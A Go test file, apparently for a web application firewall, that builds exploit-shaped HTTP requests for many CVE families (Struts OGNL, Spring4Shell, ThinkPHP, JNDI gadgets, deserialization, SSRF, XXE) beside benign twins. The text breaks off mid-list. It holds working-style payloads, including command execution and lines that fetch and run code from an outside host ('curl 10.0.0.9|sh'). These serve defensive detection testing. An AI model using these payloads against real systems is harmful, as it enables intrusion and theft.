package waf

import (
	"encoding/base64"
	"flag"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"
)

// The CVE probes: requests in the shapes public exploits of known
// vulnerabilities take, by family, each in the carrier its exploit uses
// (the path, the query, a form, JSON, XML, a multipart upload, a
// header), beside benign twins of each family (documentation naming the
// same classes, ordinary uploads, JSON with type keys and dollar signs).
// They were written for this test from the families' published shapes;
// no exploit file or corpus is copied. The waf-dev sample's captured
// "other" and upload categories hold a handful of such requests; these
// hold the families to the same standard.

var cveOut = flag.String("cve-out", "", "write the CVE probes as a JSON-lines corpus (for bench/waf -corpus)")

// probes builds the requests of one family: cve/<family> for attacks,
// cve-benign/<family> for their twins.
type probes struct {
	fam    string
	attack bool
	out    *[]toolCapture
}

func (p probes) add(method, target, body string, headers ...[2]string) {
	cat := "cve/" + p.fam
	if !p.attack {
		cat = "cve-benign/" + p.fam
	}
	*p.out = append(*p.out, toolCapture{cat, p.attack, method, target, headers, body})
}

const (
	ctForm = "application/x-www-form-urlencoded"
	ctJSON = "application/json"
	ctXML  = "application/xml"
)

// get sends v as the query parameter name, escaped as a client escapes it.
func (p probes) get(path, name, v string) { p.add("GET", path+"?"+name+"="+url.QueryEscape(v), "") }

// raw sends target as it is written.
func (p probes) raw(target string, headers ...[2]string) { p.add("GET", target, "", headers...) }

// form posts an already encoded form body.
func (p probes) form(path, body string) {
	p.add("POST", path, body, [2]string{"Content-Type", ctForm})
}

// field posts v as the form field name.
func (p probes) field(path, name, v string) { p.form(path, name+"="+url.QueryEscape(v)) }

func (p probes) json(path, body string) { p.add("POST", path, body, [2]string{"Content-Type", ctJSON}) }

func (p probes) xml(path, body string) { p.add("POST", path, body, [2]string{"Content-Type", ctXML}) }

// header sends v in the header name of a GET.
func (p probes) header(path, name, v string) { p.add("GET", path, "", [2]string{name, v}) }

// upload posts one part as a browser's multipart form does; disp is what
// follows "form-data; " in its Content-Disposition.
func (p probes) upload(path, disp, ctype, content string) {
	const b = "----WebKitFormBoundaryq9Vt2LmZpX4rKs8e"
	body := "--" + b + "\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nmy file\r\n" +
		"--" + b + "\r\nContent-Disposition: form-data; " + disp + "\r\nContent-Type: " + ctype + "\r\n\r\n" + content + "\r\n" +
		"--" + b + "--\r\n"
	p.add("POST", path, body, [2]string{"Content-Type", "multipart/form-data; boundary=" + b})
}

// file is upload with a plain quoted file name.
func (p probes) file(path, name, ctype, content string) {
	p.upload(path, `name="file"; filename="`+name+`"`, ctype, content)
}

// pathEscape escapes every byte but letters, digits and "-._~/", as
// exploit tools escape an expression they put in a path.
func pathEscape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.IndexByte("-._~/", c) >= 0 {
			b.WriteByte(c)
			continue
		}
		b.WriteString("%" + strings.ToUpper(string("0123456789abcdef"[c>>4])+string("0123456789abcdef"[c&15])))
	}
	return b.String()
}

// cveProbes returns the probes (-cve-out writes them as a corpus).
func cveProbes() (cs []toolCapture) {
	fam := func(name string) (probes, probes) {
		return probes{name, true, &cs}, probes{name, false, &cs}
	}

	// OGNL (Struts 2, Confluence): an expression in the path, the
	// Content-Type, a parameter's name or value.
	a, ok := fam("ognl")
	a.raw("/" + pathEscape(`${(#r=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("whoami").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Out",#r))}`) + "/")
	a.raw("/" + pathEscape(`${@java.lang.Runtime@getRuntime().exec("touch /tmp/ok")}`) + "/index.action")
	a.raw("/showcase/" + pathEscape(`${(#_memberAccess["allowStaticMethodAccess"]=true,@java.lang.Runtime@getRuntime().exec('id'))}`) + "/actionChain1.action")
	a.raw("/showcase/%24%7B233*233%7D/actionChain1.action")
	a.raw("/index.action?redirect:" + url.QueryEscape(`${#a=new java.lang.ProcessBuilder(new java.lang.String[]{"id"}).start()}`))
	a.raw("/index.action?method:" + url.QueryEscape(`#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,@java.lang.Runtime@getRuntime().exec(#parameters.c[0])`) + "&c=id")
	a.get("/login.action", "user", `%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"cat","/etc/passwd"})).redirectErrorStream(true).start()}`)
	a.field("/login.action", "username", `%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.Runtime@getRuntime().exec("id"))}`)
	a.add("POST", "/upload.action", "x", [2]string{"Content-Type", `%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#c=#context['com.opensymphony.xwork2.ActionContext.container']).(#u=#c.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#u.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).(#p=new java.lang.ProcessBuilder({'/bin/sh','-c','id'})).(#p.start())}`})
	a.add("GET", "/index.action", "", [2]string{"Content-Type", `${#context["com.opensymphony.xwork2.dispatcher.HttpServletResponse"].addHeader("X-Probe",91*97)}.multipart/form-data`})
	a.upload("/upload.action", `name="file"; filename="%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Test',233*233)}`+"\x00b\"", "text/plain", "x")
	a.form("/pages/createpage-entervariables.action", "queryString="+url.QueryEscape(`aaa'+#{""["class"].forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("new java.lang.ProcessBuilder('id').start()")}+'`)+"&linkCreation=true")
	a.form("/pages/doenterpagevariables.action", `queryString=aaa\u0027%2b#{\u0022\u0022[\u0022class\u0022].forName(\u0022java.lang.Runtime\u0022).getMethod(\u0022getRuntime\u0022,null).invoke(null,null).exec(\u0022id\u0022)}%2b\u0027`)
	a.form("/template/aui/text-inline.vm", `label=\u0027%2b#request\u005b\u0027.KEY_velocity.struts2.context\u0027\u005d.internalGet(\u0027ognl\u0027).findValue(#parameters.x,{})%2b\u0027&x=`+url.QueryEscape(`@org.apache.struts2.ServletActionContext@getResponse().setHeader('X-Out',(new freemarker.template.utility.Execute()).exec({"id"}))`))
	a.get("/struts2-rest-showcase/orders", "name", `${(#context['xwork.MethodAccessor.denyMethodExecution']=false)(#_memberAccess['allowStaticMethodAccess']=true)(@java.lang.Runtime@getRuntime().exec('id'))}`)
	ok.get("/search", "q", "how to escape %{name} and ${price} in a message bundle")
	ok.field("/settings/logging", "format", `%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"`)
	ok.json("/api/messages", `{"template":"Hello ${user.firstName}, your order #{order.id} ships today."}`)
	ok.get("/docs", "topic", "OGNL expressions like #context and @java.lang.Math@max in Struts docs")

	// Spring4Shell and older class-loader binding: a request parameter
	// path through class.module.classLoader into Tomcat's access log.
	a, ok = fam("spring4shell")
	a.form("/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern="+url.QueryEscape(`%{c2}i if("s".equals(request.getParameter("p"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); } %{suffix}i`)+
		"&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=shell&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")
	a.raw("/app/greeting?class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")
	a.raw("/app/greeting?class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT")
	a.raw("/app/greeting?class.module.classLoader.URLs%5B0%5D=0")
	a.form("/register", "class.classLoader.URLs%5B0%5D="+url.QueryEscape("jar:http://10.0.0.9/x.jar!/"))
	a.form("/register", "class.classLoader.resources.dirContext.docBase=/&class.classLoader.resources.dirContext.aliases=/x=/etc")
	a.form("/register", "Class.Module.ClassLoader.DefaultAssertionStatus=true")
	a.form("/register", "class%5Bmodule%5D%5BclassLoader%5D%5Bresources%5D%5Bcontext%5D%5Bparent%5D%5Bpipeline%5D%5Bfirst%5D%5Bsuffix%5D=.jsp")
	a.upload("/register", `name="class.module.classLoader.resources.context.parent.pipeline.first.prefix"`, "text/plain", "shell")
	ok.form("/courses/enrol", "class=economy&module=3&student.name=Ann")
	ok.get("/search", "q", "Tomcat class loader leaks after redeploy")
	ok.json("/api/items", `{"class":"A","module":"math","loader":"lazy"}`)
	ok.form("/profile", "filter.class=premium&sort.module=asc")

	// Spring Cloud Function: SpEL in the routing-expression header; and
	// Spring Cloud Gateway's route filters.
	a, ok = fam("spring-cloud")
	rx := "spring.cloud.function.routing-expression"
	for _, e := range []string{
		`T(java.lang.Runtime).getRuntime().exec("touch /tmp/x")`,
		`new java.lang.ProcessBuilder("bash","-c","curl 10.0.0.9|sh").start()`,
		`T(java.lang.Runtime).getRuntime().exec(new String[]{"/bin/sh","-c","id"})`,
		`T (java.lang.Runtime) . getRuntime() . exec("id")`,
		`T(java.lang.Thread).sleep(10000)`,
		`T(java.net.InetAddress).getByName("x.oob.example.net")`,
		`T(java.lang.String).forName("java.lang.Runtime").getRuntime().exec("id")`,
	} {
		a.add("POST", "/functionRouter", "hello", [2]string{rx, e}, [2]string{"Content-Type", "text/plain"})
	}
	a.add("POST", "/actuator/gateway/routes/probe", `{"id":"probe","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}],"uri":"http://example.com"}`, [2]string{"Content-Type", ctJSON})
	ok.add("POST", "/functionRouter", "hello", [2]string{rx, `headers['type'] == 'order' ? 'orderFn' : 'defaultFn'`}, [2]string{"Content-Type", "text/plain"})
	ok.add("POST", "/functionRouter", "hello", [2]string{"spring.cloud.function.definition", "uppercase|reverse"}, [2]string{"Content-Type", "text/plain"})
	ok.json("/actuator/gateway/routes/shop", `{"id":"shop","predicates":[{"name":"Path","args":{"_genkey_0":"/shop/**"}}],"filters":[{"name":"StripPrefix","args":{"parts":"1"}}],"uri":"http://shop:8080"}`)

	// SpEL, Java EL, Commons Text and OGNL-like expression injection in
	// ordinary parameters.
	a, ok = fam("expression")
	a.get("/search", "q", `${T(java.lang.Runtime).getRuntime().exec('id')}`)
	a.get("/hello", "name", `#{T(java.lang.System).getenv()}`)
	a.get("/path", "lang", `__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x`)
	a.raw("/doc/" + pathEscape(`__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x`))
	a.field("/preview", "template", `*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}`)
	a.json("/api/report", `{"filter":"${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"}`)
	a.get("/faces/home.xhtml", "msg", `#{''.class.forName('java.lang.ProcessBuilder').getConstructors()[0]}`)
	a.get("/search", "q", `${T(java.lang.Thread).sleep(5000)}`)
	a.get("/search", "q", `${pageContext.request.getServletContext().getClassLoader()}`)
	a.json("/service/rest/beta/repositories/go/group", `{"name":"internal","online":true,"storage":{"blobStoreName":"default","strictContentTypeValidation":true},"group":{"memberNames":["${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')}"]}}`)
	a.get("/lookup", "text", `${script:javascript:java.lang.Runtime.getRuntime().exec('id')}`)
	a.get("/lookup", "text", `${url:UTF-8:http://10.0.0.9/probe}`)
	a.get("/lookup", "text", `${dns:address|x.oob.example.net}`)
	a.json("/api/rules", `{"condition":"Runtime.getRuntime().exec(\"id\")"}`)
	a.get("/console/css/%252e%252e%252fconsole.portal", "handle", `com.tangosol.coherence.mvel2.sh.ShellSession("java.lang.Runtime.getRuntime().exec('id');")`)
	// JDBC URLs and H2 statements that run code in the driver.
	a.form("/h2-console/login.do", "driver=org.h2.Driver&url="+url.QueryEscape("jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://10.0.0.9/x.sql'")+"&user=sa&password=")
	a.json("/api/datasources", `{"url":"jdbc:mysql://10.0.0.9:3306/x?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor"}`)
	a.json("/api/datasources", `{"url":"jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://10.0.0.9/x.xml"}`)
	a.json("/actuator/env", `{"name":"spring.datasource.hikari.connection-test-query","value":"CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException {Runtime.getRuntime().exec(cmd);}'; CALL EXEC('id');"}`)
	ok.json("/api/datasources", `{"url":"jdbc:postgresql://db.internal:5432/shop?sslmode=require&ApplicationName=reports"}`)
	ok.json("/api/datasources", `{"url":"jdbc:h2:file:./data/app;MODE=PostgreSQL;AUTO_SERVER=TRUE"}`)
	ok.get("/docs", "q", "Use java.lang.Runtime#availableProcessors to size the pool")
	ok.json("/api/notes", `{"text":"In SpEL, T(java.lang.Math) refers to the type, as the reference manual shows."}`)
	ok.get("/search", "q", "price ${amount} and #{count} placeholders")
	ok.form("/settings", "expr="+url.QueryEscape("order.total > 100 and customer.tier == 'gold'"))

	// ThinkPHP's router and request filter.
	a, ok = fam("thinkphp")
	a.raw(`/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=whoami`)
	a.raw(`/index.php?s=index/think\request/input&data=id&filter=system`)
	a.raw(`/index.php?s=index/\think\template\driver\file/write&cacheFile=shell.php&content=` + url.QueryEscape(`<?php phpinfo();?>`))
	a.raw(`/index.php?s=/index/\think\Container/invokefunction&function=call_user_func_array&vars[0]=file_put_contents&vars[1][]=x.php&vars[1][]=` + url.QueryEscape(`<?php @eval($_POST[1]);?>`))
	a.raw(`/index.php?s=index/\think\view\driver\Php/display&content=` + url.QueryEscape(`<?php phpinfo();?>`))
	a.raw(`/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=phpinfo&vars[0]=1`)
	a.form("/index.php?s=captcha", "_method=__construct&filter[]=system&method=get&get[]=id")
	a.form("/index.php?s=index/index/index", "s=whoami&_method=__construct&method=POST&filter[]=system")
	a.raw("/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/" + url.PathEscape("<?=phpinfo()?>") + "+/tmp/x.php")
	a.raw("/public/index.php?s=index/think\\Lang/load&file=../../../../etc/passwd")
	ok.raw("/index.php?s=/index/news/read&id=5")
	ok.raw("/index.php?s=index/blog/list&page=2")
	ok.form("/calc", "function=sum&vars[0]=3&vars[1]=4")
	ok.get("/search", "q", "thinkphp invokefunction vulnerability explained")

	// PHPUnit's eval-stdin.php runs the body it is sent.
	a, ok = fam("phpunit")
	for _, pth := range []string{
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		"/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		"/wp-content/plugins/x/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		"/vendor/phpunit/phpunit/Util/PHP/eval-stdin.php",
	} {
		a.add("POST", pth, `<?php echo md5("probe"); ?>`, [2]string{"Content-Type", "text/plain"})
	}
	a.add("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", `<?=shell_exec('id')?>`, [2]string{"Content-Type", ctForm})
	a.add("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php\nsystem('curl 10.0.0.9/x|sh');", nil...)
	ok.add("POST", "/api/notes", `{"text":"PHPUnit's eval-stdin.php must never be deployed to production."}`, [2]string{"Content-Type", ctJSON})
	ok.raw("/docs/phpunit/getting-started.html")

	// Apache 2.4.49/50 path traversal and CGI execution.
	a, ok = fam("apache-traversal")
	a.add("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "echo;id", [2]string{"Content-Type", "text/plain"})
	a.raw("/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd")
	a.raw("/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd")
	a.add("POST", "/cgi-bin/%2e%2e/%2e%2e/%2e%2e/%2e%2e/bin/bash", "echo Content-Type: text/plain; echo; id", [2]string{"Content-Type", ctForm})
	a.raw("/cgi-bin/.%%32%65/.%%32%65/.%%32%65/etc/passwd")
	a.raw("/icons/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd")
	ok.raw("/icons/folder.gif")
	ok.raw("/cgi-bin/status.cgi?verbose=1")

	// Appliance path tricks: Citrix, F5, Exchange, Fortinet, Pulse, Jira,
	// Tomcat, Grafana.
	a, ok = fam("appliance-path")
	a.raw("/vpn/../vpns/cfg/smb.conf")
	a.raw("/vpn/%2e%2e/vpns/cfg/smb.conf")
	a.add("POST", "/vpn/../vpns/portal/scripts/newbm.pl", "url=http%3A%2F%2Fexample.com&title="+url.QueryEscape("[%t=template.new({'BLOCK'='print `id`'})%]")+"&desc=x&UI_inuse=RfWeb",
		[2]string{"Content-Type", ctForm}, [2]string{"NSC_USER", "../../../netscaler/portal/templates/probe"}, [2]string{"NSC_NONCE", "nsroot"})
	a.add("POST", "/mgmt/tm/util/bash", `{"command":"run","utilCmdArgs":"-c id"}`, [2]string{"Content-Type", ctJSON}, [2]string{"X-F5-Auth-Token", ""}, [2]string{"Authorization", "Basic YWRtaW46"}, [2]string{"Connection", "keep-alive, X-F5-Auth-Token"})
	a.raw("/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin")
	a.raw("/tmui/login.jsp/%2e%2e;/tmui/system/user/authproperties.jsp")
	a.raw("/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example")
	a.raw("/autodiscover/autodiscover.json?@x.example/owa/?&Email=autodiscover/autodiscover.json%3F@x.example&Protocol=XYZ&FooProtocol=Powershell")
	a.add("GET", "/ecp/y.js", "", [2]string{"Cookie", "X-BEResource=localhost/owa/auth/logon.aspx?~1942062522; X-AnonResource=true"})
	a.raw("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession")
	a.raw("/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/")
	a.raw("/s/x/_/;/WEB-INF/web.xml")
	a.raw("/..;/manager/html")
	a.raw("/public/plugins/alertlist/../../../../../../../../etc/passwd")
	a.raw("/public/plugins/alertlist/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd")
	a.raw("/plugins/servlet/gadgets/makeRequest?url=" + url.QueryEscape("http://x.example:8080@169.254.169.254/latest/meta-data/"))
	a.raw("/static/..%5c..%5c..%5cwindows%5cwin.ini")
	a.header("/", "X-Original-URL", "/../../../etc/passwd")
	a.header("/assets/app.js", "Accept", "../../../../../../../../etc/passwd{{")
	a.raw("/assets/file:%2f%2f/etc/passwd")
	ok.raw("/vpn/index.html")
	ok.raw("/mgmt/status")
	ok.add("POST", "/autodiscover/autodiscover.xml", `<?xml version="1.0" encoding="utf-8"?><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request><EMailAddress>ann@example.com</EMailAddress><AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>`, [2]string{"Content-Type", "text/xml"})
	ok.raw("/owa/?ae=Item&t=IPM.Note&id=RgAAAAB")
	ok.raw("/remote/login?lang=en")
	ok.header("/assets/app.js", "Accept", "text/javascript, application/javascript, */*; q=0.01")

	// Polymorphic JSON: Fastjson and Jackson gadgets.
	a, ok = fam("json-gadget")
	a.json("/api/order", `{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://10.0.0.9:1099/x","autoCommit":true}}`)
	a.json("/api/order", `{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://10.0.0.9/x","autoCommit":true}`)
	a.json("/api/order", `{"\u0040\u0074\u0079\u0070\u0065":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://10.0.0.9/x","autoCommit":true}`)
	a.json("/api/order", `{"@type":"org.apache.xbean.propertyeditor.JndiConverter","AsText":"ldap://10.0.0.9:1389/x"}`)
	a.json("/api/order", `{"@type":"java.net.Inet4Address","val":"x.dnslog.example.net"}`)
	a.json("/api/order", `{"x":{"@type":"java.net.URL","val":"http://x.dnslog.example.net"}}`)
	a.json("/api/order", `["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://10.0.0.9:1389/x"}]`)
	a.json("/api/order", `{"object":["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"rmi://10.0.0.9/x"}]}`)
	a.json("/api/order", `{"id":1,"obj":{"@class":"org.springframework.context.support.ClassPathXmlApplicationContext","configLocation":"http://10.0.0.9/spel.xml"}}`)
	a.get("/api/parse", "data", `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://10.0.0.9/x","autoCommit":true}`)
	a.json("/api/order", `{"@type":"java.lang.AutoCloseable","@type":"org.apache.commons.io.input.BOMInputStream"}`)
	ok.json("/api/events", `{"type":"com.example.orders.created","source":"/shop","data":{"id":7}}`)
	ok.json("/api/items", `{"@type":"Product","name":"Java Cookbook","sku":"com.example.books.42"}`)
	ok.json("/api/settings", `{"type":"java","version":"21","package":"org.example.app"}`)
	ok.get("/search", "q", "com.sun.rowset.JdbcRowSetImpl deprecated in which JDK?")

	// Serialized objects: Java, PHP, .NET, Python, YAML, XStream.
	a, ok = fam("serialized")
	javaObj := "\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI\x00\tthresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01t\x00\x01ax"
	a.add("POST", "/invoker/JMXInvokerServlet", javaObj, [2]string{"Content-Type", "application/x-java-serialized-object"})
	a.field("/faces/login.xhtml", "javax.faces.ViewState", b64(javaObj))
	a.get("/api/restore", "state", "aced0005737200116a6176612e7574696c2e486173684d6170")
	a.header("/", "X-Session", b64(javaObj))
	a.add("GET", "/account", "", [2]string{"Cookie", `prefs=` + url.QueryEscape(`O:8:"stdClass":1:{s:4:"role";s:5:"admin";}`)})
	a.field("/profile", "data", `O:40:"Illuminate\Broadcasting\PendingBroadcast":2:{s:9:"*events";O:15:"Faker\Generator":1:{s:13:"*formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"*event";s:2:"id";}`)
	a.get("/cart", "c", `a:1:{i:0;O:10:"Monolog\Log":1:{s:4:"file";s:11:"/tmp/sh.php";}}`)
	a.get("/cart", "c", b64(`O:8:"Example":1:{s:3:"cmd";s:2:"id";}`))
	a.field("/default.aspx", "__VIEWSTATE", "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0uV2luZG93cy5Gb3JtcywgVmVyc2lvbj00LjAuMC4wLCBDdWx0dXJlPW5ldXRyYWw=")
	a.json("/api/import", `{"blob":"AAEAAAD/////AQAAAAAAAAAEAQAAAH9TeXN0ZW0uQ29sbGVjdGlvbnMuR2VuZXJpYy5Tb3J0ZWRTZXQ="}`)
	a.add("POST", "/api/session", "cposix\nsystem\n(S'id'\ntR.", [2]string{"Content-Type", "application/octet-stream"})
	a.add("GET", "/dashboard", "", [2]string{"Cookie", "session=" + b64("\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.")})
	a.field("/api/config", "yaml", `!!python/object/apply:os.system ["id"]`)
	a.add("POST", "/api/config", "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://10.0.0.9/x.jar\"]]]]\n", [2]string{"Content-Type", "text/plain"})
	a.xml("/struts2-rest-showcase/orders/3", `<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.ProcessBuilder"><command><string>id</string></command><redirectErrorStream>false</redirectErrorStream></next></iter><filter class="javax.imageio.ImageIO$ContainsFilter"><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name></filter><next class="string">foo</next></serviceIterator><lock/></cipher><input class="java.lang.ProcessBuilder$NullInputStream"/><ibuffer></ibuffer></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal.objects.NativeString reference="../jdk.nashorn.internal.objects.NativeString"/></entry></map>`)
	a.xml("/api/import", `<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>`)
	a.json("/api/jsonws/invoke", `{"cmd":"{\"/expandocolumn/add-column\":{}}","tableId":"1","+defaultData":"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource","defaultData.userOverridesAsString":"HexAsciiSerializedMap:ACED00057372001173"}`)
	a.xml("/wls-wsat/CoordinatorPortType", `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>`)
	ok.field("/default.aspx", "__VIEWSTATE", "/wEPDwULLTE2MTY2ODcyMjlkZNc1d2x1ZWdvbGQ=")
	ok.add("GET", "/account", "", [2]string{"Cookie", "prefs=" + url.QueryEscape(`a:2:{s:4:"lang";s:2:"en";s:5:"theme";s:4:"dark";}`)})
	ok.add("GET", "/account", "", [2]string{"Cookie", "session=eyJ1c2VyIjoiYW5uIiwiZXhwIjoxNzAwMDAwMDAwfQ.c2lnbmF0dXJl"})
	ok.get("/search", "q", "O:8 ratio on the gauge")
	ok.field("/api/config", "yaml", "server:\n  port: 8080\n  name: shop\nlist: !!set {a, b}\n")

	// URL schemes that reach files and internal services: SSRF and file
	// inclusion through a URL parameter or an entity.
	a, ok = fam("url-scheme")
	for _, u := range []string{
		"gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
		"dict://127.0.0.1:11211/stat",
		"file:///etc/passwd",
		"file:///c:/windows/win.ini",
		"php://filter/convert.base64-encode/resource=/etc/passwd",
		"php://filter/read=convert.base64-encode/resource=../config.php",
		"expect://id",
		"data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
		"data://text/plain,<?php phpinfo();?>",
		"jar:http://10.0.0.9/x.jar!/a.class",
		"netdoc:///etc/passwd",
		"ldap://10.0.0.9:1389/x",
		"zip://uploads/avatar.jpg#shell.php",
		"phar://uploads/avatar.jpg/shell.php",
		"compress.zlib:///etc/passwd",
		"tftp://10.0.0.9/x",
	} {
		a.get("/fetch", "url", u)
	}
	a.json("/api/webhooks", `{"name":"hook","target":"gopher://127.0.0.1:25/_HELO%20x"}`)
	a.xml("/api/import", `<import><source>dict://127.0.0.1:6379/info</source></import>`)
	a.field("/preview", "link", "php://filter/resource=/etc/hosts")
	a.xml("/api/import", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><r>&x;</r>`)
	a.xml("/api/import", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>`)
	a.add("POST", "/api/import", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`), [2]string{"Content-Type", "application/xml"})
	a.xml("/api/import", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "jar:http://10.0.0.9/x.zip!/a">]><svg>&x;</svg>`)
	ok.get("/fetch", "url", "https://example.com/image.png")
	ok.json("/api/webhooks", `{"name":"hook","target":"https://hooks.example.com/services/T0/B0"}`)
	ok.json("/api/users/7", `{"avatar":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}`)
	ok.get("/docs", "q", "file:// URLs are not supported by the importer")
	ok.get("/login", "next", "/dashboard?tab=files")

	// Cloud metadata services, their addresses written every way.
	a, ok = fam("cloud-metadata")
	for _, u := range []string{
		"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
		"http://2852039166/latest/meta-data/",
		"http://0xA9FEA9FE/latest/meta-data/",
		"http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/",
		"http://0251.0376.0251.0376/latest/meta-data/",
		"http://[::ffff:a9fe:a9fe]/latest/meta-data/",
